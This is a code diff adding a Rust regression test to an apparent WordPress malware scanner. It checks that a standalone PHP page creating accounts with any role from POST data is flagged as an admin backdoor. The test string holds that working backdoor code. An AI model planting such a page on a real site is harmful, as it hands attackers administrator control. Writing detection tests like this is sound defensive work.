@@ -158,3 +158,23 @@ fn a_script_loading_wordpress_to_write_the_visitors_posts_is_a_spam_control() {
                   function mw_newPost($args) { $postdata = compact('post_author', 'post_title', 'post_content'); $id = wp_insert_post($postdata, true); }";
     assert!(found(xmlrpc).is_empty());
 }
+
+#[test]
+fn a_page_from_outside_wordpress_making_an_account_of_any_role_is_a_backdoor() {
+    // Regression: fresh106's `login.php` loads the settings file and writes the user and the
+    // role the visitor picks straight into the database, for anyone who opens it.
+    let page = "<?php require_once($_SERVER['DOCUMENT_ROOT'] . '/wp-config.php');\n\
+                function add($u, $p, $role) { global $wpdb; $wpdb->insert($wpdb->users, array('user_login' => $u, 'user_pass' => wp_hash_password($p)));\n\
+                $wpdb->insert($wpdb->usermeta, array('user_id' => $wpdb->insert_id, 'meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => serialize(array($role => true)))); }\n\
+                if (isset($_POST['username'])) { add($_POST['username'], $_POST['password'], $_POST['role']); }";
+    assert_eq!(found(page), [(Why::AdminBackdoor, Danger::High)]);
+    // Behind WordPress's own permission check, it is an administrator's tool.
+    let checked = page.replace(
+        "if (isset($_POST['username']))",
+        "if (current_user_can('create_users') && isset($_POST['username']))",
+    );
+    assert!(found(&checked).is_empty(), "{:?}", found(&checked));
+    // A plugin's registration form (inside WordPress) picks no role from the request.
+    let plugin = "<?php function reg() { $id = wp_insert_user(array('user_login' => $_POST['u'], 'user_pass' => $_POST['p'], 'role' => 'subscriber')); }";
+    assert!(found(plugin).is_empty());
+}
